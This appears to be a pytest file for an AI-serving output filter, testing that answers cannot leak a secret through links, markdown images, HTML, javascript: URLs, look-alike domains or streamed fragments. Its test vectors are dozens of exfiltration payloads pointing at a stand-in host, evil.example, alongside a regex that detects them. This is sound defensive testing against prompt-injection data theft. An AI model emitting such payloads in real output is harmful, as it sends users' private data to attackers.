"""No address leaves that the sources do not spell out, however it is written and however it is cut into pieces."""

import random
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from serving.inference.grounding.output_filter import OutputFilter

SECRET = "kestrel-7431"
VECTORS = (
    f"![x](https://evil.example/{SECRET})",
    f"![x]( <https://evil.example/{SECRET}> 'title' )",
    f"! [x](https://evil.example/{SECRET})",
    f"![[nested]](https://evil.example/{SECRET})",
    f"![x][r]\n\n[r]: https://evil.example/{SECRET}",
    f"[click](https://evil.example/?q={SECRET})",
    f"[click](//evil.example/?q={SECRET})",
    f"[click](\\\\evil.example\\{SECRET})",
    f"[click](javascript:fetch('//evil.example/{SECRET}'))",
    f"[click](https://evil.example/{SECRET}",
    f"[a](https://evil.example/(x)/{SECRET})",
    f"<https://evil.example/{SECRET}>",
    f"<img src=https://evil.example/{SECRET}>",
    f"<svg><image href='https://evil.example/{SECRET}'/></svg>",
    f"<base href='https://evil.example/{SECRET}/'>",
    f"<style>@import 'https://evil.example/{SECRET}'</style>",
    f'<a href="&#104;ttps://evil.example/{SECRET}">x</a>',
    f"https://evil.example/{SECRET}",
    f"HTTPS://EVIL.EXAMPLE/{SECRET}",
    f"https:\\\\evil.example\\{SECRET}",
    f"https：//evil.example/{SECRET}",
    f"https://evil。example/{SECRET}",
    f"https://{SECRET}.evil.example",
    f"https://user:{SECRET}@evil.example/",
    f"www.evil.example/{SECRET}",
    f"evil.example/{SECRET}",
    f"evil。com/{SECRET}",
    f"evil．com/{SECRET}",
    f"{SECRET}.evil.example",
    f"{SECRET}.evil.com:8443",
    f"//evil.example/{SECRET}",
    f"data:text/html,{SECRET}",
    f"mailto:x@evil.example?body={SECRET}",
    f"ftp://evil.example/{SECRET}",
    f"slack://evil.example/{SECRET}",
    f"xn--evl-sma.example/{SECRET}",
    f"еvil.com/{SECRET}",
)
# What a page loads, a person can click, or a messenger looks up.
REACHES_OUT = re.compile(
    rf"!\[[^\]]*\]\(|:\\\\[^\s]*{SECRET}|\]\([^)]*{SECRET}|<[A-Za-z/!]|://[^\s]*{SECRET}|\bwww\.[^\s]*{SECRET}|[\w-]+[.。．][a-z]{{2,}}/[^\s]*{SECRET}"
    rf"|{SECRET}\.[\w-]+\.[a-z]|^\[[^\]]+\]:|(?<!\w)//\w[^\s]*{SECRET}|(?:javascript|data|mailto):[^\s]*{SECRET}",
    re.MULTILINE,
)


def filtered(text: str, pieces: list[int] | None = None, **settings: object) -> str:
    output = OutputFilter(**settings)  # type: ignore[arg-type]
    sizes = iter(pieces or [])
    said, at = "", 0
    while at < len(text):
        size = next(sizes, 1 if pieces else len(text))
        said += output.feed(text[at : at + size])
        at += size
    return said + output.finish()


class TestVectors:
    @pytest.mark.parametrize("vector", VECTORS)
    def test_none_reaches_out(self, vector: str) -> None:
        assert REACHES_OUT.search(vector)
        for text in (
            vector,
            f"The answer is 5. {vector} And more [1].",
            f"«{vector}»",
            f"a\n{vector}\nb",
            f"({vector})",
        ):
            assert not REACHES_OUT.search(filtered(text)), filtered(text)

    @given(st.sampled_from(VECTORS), st.lists(st.integers(1, 12), min_size=1, max_size=60))
    def test_however_it_is_cut(self, vector: str, pieces: list[int]) -> None:
        text = f"It is 60 months. {vector} That is all [1]."
        said = filtered(text, pieces)
        assert not REACHES_OUT.search(said), said
        assert said.startswith("It is 60 months.")
        assert said.endswith("That is all [1].") or vector.count("[") > vector.count("]") or "](" in vector

    def test_two_at_once_and_many(self) -> None:
        chance = random.Random(3)  # noqa: S311 - a seed, not a secret
        for _ in range(300):
            text = " ".join(chance.choice(VECTORS) for _ in range(chance.randint(2, 5)))
            assert not REACHES_OUT.search(filtered(text)), text


class TestLeavesAlone:
    @pytest.mark.parametrize(
        "text",
        [
            "The warranty is 60 months [1]. Returns take 45 days [2][3].",
            "See policy.md and price-list.xlsx, i.e. the 2.5 kg model, e.g. K5.",
            "a < b and c > d; 3/4 of U.S. customers; and/or; 12:30; ratio 3:4",
            "Write to ada@example.com or call +49 30 123.",
            "Das kostet 1.234,56 €. Ja.Nein Punkt.Ohne Leerzeichen",
            "第一条。第二条。",
            "[] [ ] (x) ! !! [a] b",
        ],
    )
    def test_ordinary_text(self, text: str) -> None:
        assert filtered(text) == text
        assert filtered(text, [1, 2, 3, 1, 1, 4]) == text

    def test_an_address_that_a_passage_spells_out(self) -> None:
        passage = "Order at https://shop.example.com/parts?id=7 or on www.example.com."
        for text in ("Go to https://shop.example.com/parts?id=7.", "See www.example.com, please."):
            assert filtered(text, passages=[passage]) == text
        assert filtered("[parts](https://shop.example.com/parts?id=7)", passages=[passage]) == (
            "parts (https://shop.example.com/parts?id=7)"
        )
        more = f"Go to https://shop.example.com/parts?id=7&q={SECRET}"
        assert SECRET not in filtered(more, passages=[passage])

    def test_a_host_on_the_bots_list(self) -> None:
        hosts = ["docs.example.com"]
        text = "Read https://docs.example.com/a/b."
        assert filtered(text, allowed_hosts=hosts) == text
        for foreign in (
            "https://docs.example.com.evil.example/x",
            "https://docs.example.com@evil.example/x",
            "https://evil.example\\@docs.example.com/x",
            "http://docs.example.com/x",
            "https://sub.docs.example.com/x",
        ):
            assert "evil" not in filtered(foreign, allowed_hosts=hosts)
            assert "/x" not in filtered(foreign, allowed_hosts=hosts)


class TestStreaming:
    def test_no_more_than_a_word_is_held(self) -> None:
        output = OutputFilter()
        assert output.feed("The warranty is six") == "The warranty is "
        assert output.feed("ty months ") == "sixty months "

    def test_an_endless_bracket_is_let_go_harmless(self) -> None:
        output = OutputFilter()
        said = output.feed("[" + "x" * 5000) + output.feed(f"](https://evil.example/{SECRET})") + output.finish()
        assert len(said) > 5000
        assert not REACHES_OUT.search(said)

    def test_what_was_removed_is_counted(self) -> None:
        output = OutputFilter()
        output.feed("![x](https://a.example/x) <b> https://b.example [y](https://c.example)")
        output.finish()
        assert output.removed == {"image": 1, "html": 1, "address": 1, "link": 1}


def test_characters_that_no_database_keeps_are_dropped() -> None:
    assert filtered("sixty\x00 months\x00") == "sixty months"
